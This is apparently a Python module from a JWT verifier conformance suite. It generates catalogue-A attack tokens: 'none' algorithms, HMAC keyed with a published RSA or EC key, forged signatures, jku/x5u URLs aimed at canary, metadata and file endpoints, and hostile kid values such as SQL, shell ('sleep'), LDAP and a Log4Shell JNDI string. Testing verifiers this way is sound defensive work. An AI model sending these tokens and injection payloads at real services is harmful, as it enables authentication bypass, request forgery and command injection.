"""Catalogue A: signature, algorithm and choice of the key (RFC 8725, 2.1, 3.1-3.5; RFC 7515; RFC 9068, section 4)."""

import base64
import hashlib
import hmac
import json
from collections.abc import Iterator
from typing import Any

from joserfc.jwk import ECKey, OctKey, RSAKey
from joserfc.jws import JWSRegistry

from conformance.attacks.model import Attack, Expect, tokens_of
from conformance.attacks.world import World, json_bytes
from gatelodge.testing.tokens import encode_part

__all__ = ["table_a"]

CANARY = "https://canary.example/keys.json"
CANARIES = (
    CANARY,
    "http://canary.example/keys.json",
    "file:///etc/passwd",
    "http://127.0.0.1:1/keys.json",
    "http://169.254.169.254/latest/meta-data/",
    "https://localhost:8443/redirect?to=https://canary.example",
    "https://rebind.canary.example/keys.json",
    "gopher://canary.example:70/_keys",
)
# The order of the Ed25519 group (RFC 8032, section 5.1).
ED25519_ORDER = 2**252 + 27742317777372353535851937790883648493
CRITICAL: tuple[object, ...] = (
    *(["unknown"], ["exp"], [], ["alg"], ["kid"], 1, 1.5, None, True, "exp", {}),
    *([1], [None], [{}], [[]], ["exp", "exp"], ["missing"]),
)


def table_a(world: World) -> Iterator[Attack]:
    """All rows; everything signed with the issuer's own keys where a stranger's would be too easy to refuse."""
    yield from _no_algorithm(world)
    yield from _symmetric(world)
    yield from _bytes_changed(world)
    yield from _keys_brought_along(world)
    yield from _key_ids(world)
    yield from _algorithm_choice(world)
    yield from _crafted_signatures(world)
    yield from _critical(world)
    yield from _other_containers(world)


def _no_algorithm(world: World) -> Iterator[Attack]:
    _, payload, signature = world.parts()
    for name in ("none", "None", "NONE", "nOnE", "noNE"):
        head = encode_part(world.head(alg=name))
        yield from tokens_of(
            "A01",
            {
                f"{name}, empty signature": f"{head}.{payload}.",
                f"{name}, original signature": f"{head}.{payload}.{signature}",
                f"{name}, garbage signature": f"{head}.{payload}.AAAA",
            },
        )
    without = {name: value for name, value in world.head().items() if name != "alg"}
    yield from tokens_of("A02", {"alg missing": world.sign(without)})
    odd = (None, "", ["RS256"], 256, "rs256", "RS256 ", "RS256\0", "XX999", {"RS256": 1})
    yield from tokens_of("A02", {f"alg {value!r}": world.sign(world.head(alg=value)) for value in odd})


def _symmetric(world: World) -> Iterator[Attack]:
    for published in ("RS256", "ES256"):
        key = world.tokens.key(published)
        assert isinstance(key, RSAKey | ECKey)
        pem = key.as_pem(private=False)
        der = key.as_der(private=False)
        secrets = {
            "PEM": pem,
            "PEM stripped": pem.strip(),
            "DER": der,
            "SPKI in base64": base64.b64encode(der),
            "JWK": json.dumps(key.as_dict(private=False)).encode(),
            "coordinate": str(key.as_dict(private=False).get("n") or key.as_dict(private=False)["x"]).encode(),
            "kid": str(key.kid).encode(),
            "empty": b"",
        }
        for algorithm, digest in (("HS256", hashlib.sha256), ("HS384", hashlib.sha384), ("HS512", hashlib.sha512)):
            signed = f"{encode_part(world.head(published, alg=algorithm))}.{encode_part(world.claims())}"
            yield from tokens_of(
                "A03",
                {
                    f"{algorithm} with the {published} key as {name}": (
                        f"{signed}.{encode_part(hmac.new(secret, signed.encode(), digest).digest())}"
                    )
                    for name, secret in secrets.items()
                },
            )


def _bytes_changed(world: World) -> Iterator[Attack]:
    head, payload, signature = world.parts()
    yield from tokens_of(
        "A04",
        {
            "two parts": f"{head}.{payload}",
            "one part": head,
            "empty signature": f"{head}.{payload}.",
            "empty payload": f"{head}..{signature}",
            "empty header": f".{payload}.{signature}",
            "signature of half length": f"{head}.{payload}.{signature[: len(signature) // 2]}",
            "signature without its end": f"{head}.{payload}.{signature[:-4]}",
            "signature of another token": f"{head}.{payload}.{world.good(jti='other').rpartition('.')[2]}",
        },
    )
    for place, name in enumerate(("header", "payload", "signature")):
        raw = _decode((head, payload, signature)[place])
        for step in range(15):
            position = step * (len(raw) * 8 - 1) // 14
            changed = bytearray(raw)
            changed[position // 8] ^= 1 << position % 8
            parts = [head, payload, signature]
            parts[place] = encode_part(bytes(changed))
            yield from tokens_of("A04", {f"bit {position} of the {name}": ".".join(parts)})


def _decode(part: str) -> bytes:
    return base64.urlsafe_b64decode(part + "=" * (-len(part) % 4))


def _keys_brought_along(world: World) -> Iterator[Attack]:
    stranger = {**world.stranger, "HS256": OctKey.generate_key(256, {"alg": "HS256"})}
    for algorithm, key in stranger.items():
        jwk = key.as_dict(private=algorithm == "HS256")
        for kid in (world.tokens.kid(), str(jwk.get("kid", "theirs")), None):
            head = {"alg": algorithm, "typ": "JWT", "jwk": jwk, **({"kid": kid} if kid else {})}
            whose = "no" if kid is None else "our" if kid == world.tokens.kid() else "their"
            token = world.sign(head, algorithm=algorithm, key=key)
            yield from tokens_of("A05", {f"{algorithm} key in the header, {whose} kid": token})
    for member in ("jku", "x5u"):
        attacker = {
            f"{member} to {url}": world.sign(world.head(**{member: url}), key=world.stranger["RS256"])
            for url in CANARIES
        }
        yield from tokens_of("A06", attacker)
        yield from tokens_of("A07", {f"{member} on the real key": world.sign(world.head(**{member: CANARY}))})
    public = world.tokens.key("ES256").as_dict(private=False)
    yield from tokens_of("A07", {"jwk on the real key": world.sign(world.head("ES256", jwk=public), algorithm="ES256")})
    chain: dict[str, Any] = {"x5c": ["MIIB"], "x5t": "AAAA", "x5t#S256": "AAAA"}
    yield from tokens_of(
        "A08", {f"{name} on the real key": world.sign(world.head(**{name: chain[name]})) for name in chain}
    )
    yield from tokens_of(
        "A08", {"x5c of a stranger": world.sign(world.head(x5c=["MIIB"]), key=world.stranger["RS256"])}
    )


def _key_ids(world: World) -> Iterator[Attack]:
    hostile: tuple[object, ...] = (
        *("../../dev/null", "' OR 1=1--", ";sleep 5", "*)(uid=*", CANARY, "k" * 10_000, "a\0b", "😀", 1, None, ["x"]),
        *("", "a\r\nX-Injected: 1", "%n%n%n%s", "${jndi:ldap://canary.example}", {"kid": "x"}, True, "\u202e"),
    )
    yield from tokens_of("A09", {f"kid {str(kid)[:30]!r}": world.sign(world.head(kid=kid)) for kid in hostile})
    ring = {
        "kid of another key": world.sign(world.head(kid=world.tokens.kid("PS256"))),
        "kid of an EC key under RS256": world.sign(world.head(kid=world.tokens.kid("ES256"))),
        "kid of the published encryption key": world.sign(world.head(kid=world.tokens.jwks()["keys"][-1]["kid"])),
    }
    for name in ("encryption", "key_ops", "short"):
        key = world.odd[name]
        ring[f"signed with the published key {key.kid}"] = world.sign(world.head(kid=key.kid), key=key)
    yield from tokens_of("A10", ring)
    without = {name: value for name, value in world.head().items() if name != "kid"}
    yield from tokens_of("A11", {"no kid, one key published": world.sign(without)}, server="single")
    yield from tokens_of("A11", {"no kid, many keys published": world.sign(without)})


def _algorithm_choice(world: World) -> Iterator[Attack]:
    key, pss = world.tokens.key("RS256"), world.tokens.key("PS256")
    for name in ("RS384", "RS512", "PS256", "PS384", "PS512"):
        token = world.sign(world.head(alg=name), algorithm=name, key=key)
        yield from tokens_of("A12", {f"{name} with the RS256 key": token})
    yield from tokens_of(
        "A12",
        {
            "RS256 with the PS256 key": world.sign(world.head("PS256", alg="RS256"), key=pss),
            "ES384 with a published P-384 key": world.sign(
                world.head(alg="ES384", kid="wide"), algorithm="ES384", key=world.odd["wide"]
            ),
            "Ed25519 with the EdDSA key": world.sign(
                world.head("EdDSA", alg="Ed25519"), algorithm="Ed25519", key=world.tokens.key("EdDSA")
            ),
        },
    )
    for name in ("PS256", "ES256", "EdDSA", "Ed25519"):
        yield from tokens_of(
            "A12", {f"{name} where RS256 alone is allowed": world.good(algorithm=name)}, server="rs256"
        )


def _crafted_signatures(world: World) -> Iterator[Attack]:
    head, payload, signature = world.parts("ES256")
    raw = _decode(signature)
    ed_head, ed_payload, ed_signature = world.parts("EdDSA")
    ed = _decode(ed_signature)
    scalar = int.from_bytes(ed[32:], "little") + ED25519_ORDER
    yield from tokens_of(
        "A13",
        {
            "ES256 with a P-384 key": world.sign(
                world.head(alg="ES256", kid="wide"), algorithm="ES384", key=world.odd["wide"]
            ),
            "EdDSA with an Ed448 key": world.sign(
                world.head(alg="EdDSA", kid="edwards448"), algorithm="EdDSA", key=world.odd["edwards448"]
            ),
            "ES256, r and s are 0": f"{head}.{payload}.{encode_part(bytes(64))}",
            "ES256, r and s are all ones": f"{head}.{payload}.{encode_part(bytes([255]) * 64)}",
            "ES256, DER": f"{head}.{payload}.{encode_part(_der(raw))}",
            "ES256, a zero byte more": f"{head}.{payload}.{encode_part(raw + bytes(1))}",
            "ES256, r and s swapped": f"{head}.{payload}.{encode_part(raw[32:] + raw[:32])}",
            "Ed25519, S plus L": f"{ed_head}.{ed_payload}.{encode_part(ed[:32] + scalar.to_bytes(32, 'little'))}",
            "Ed25519, all zero": f"{ed_head}.{ed_payload}.{encode_part(bytes(64))}",
        },
    )
    for name, key in world.stranger.items():
        token = world.sign(world.head(name), algorithm=name, key=key)
        yield from tokens_of("A13", {f"{name} with a stranger's key under our kid": token})


def _der(raw: bytes) -> bytes:
    def number(part: bytes) -> bytes:
        value = int.from_bytes(part, "big")
        data = value.to_bytes(value.bit_length() // 8 + 1, "big")
        return b"\x02" + bytes([len(data)]) + data

    body = number(raw[:32]) + number(raw[32:])
    return b"\x30" + bytes([len(body)]) + body


def _critical(world: World) -> Iterator[Attack]:
    yield from tokens_of("A14", {f"crit {value!r}": world.sign(world.head(crit=value)) for value in CRITICAL})
    unencoded = json_bytes(world.head(b64=False, crit=["b64"]))
    yield from tokens_of(
        "A15",
        {
            "b64 false": world.sign(world.head(b64=False)),
            "b64 false and critical": world.sign(world.head(b64=False, crit=["b64"])),
            "b64 false, payload unencoded": f"{encode_part(unencoded)}.payload.{world.parts()[2]}",
        },
    )


def _other_containers(world: World) -> Iterator[Attack]:
    jwe = (
        {"alg": "RSA1_5", "enc": "A256GCM"},
        {"alg": "RSA-OAEP", "enc": "A256GCM"},
        {"alg": "dir", "enc": "A256GCM"},
        {"alg": "dir", "enc": "A256GCM", "zip": "DEF"},
        {"alg": "PBES2-HS256+A128KW", "enc": "A128GCM", "p2c": 10**9, "p2s": "AAAA"},
        {"alg": "ECDH-ES", "enc": "A128GCM", "epk": {"kty": "EC", "crv": "P-256", "x": "AA", "y": "AA"}},
    )
    yield from tokens_of(
        "A16",
        {
            f"encrypted, {', '.join(map(str, head.values()))[:40]}": f"{encode_part(head)}.AAAA.AAAA.AAAA.AAAA"
            for head in jwe
        },
    )
    head, payload, signature = world.parts()
    flat = json_bytes({"protected": head, "payload": payload, "signature": signature})
    general = json_bytes({"payload": payload, "signatures": [{"protected": head, "signature": signature}]})
    none = json_bytes({"payload": payload, "signatures": []})
    # Quotes and braces are no token (RFC 6750, section 2.1), so the header itself is malformed.
    yield from tokens_of("A17", {"flattened JSON": flat, "general JSON": general, "no signatures": none}, Expect.E400)
    yield from tokens_of("A17", {"flattened JSON in base64url": encode_part(flat)})
    yield from tokens_of(
        "A18",
        {
            "nested by cty": world.sign(world.head(cty="JWT"), world.good().encode()),
            "a token in a token": world.sign(world.head(), world.good().encode()),
        },
    )
    # Not another container, but the proof that the library knows the algorithms refused above.
    assert {"HS256", "RS512", "ES384"} <= JWSRegistry.algorithms.keys()
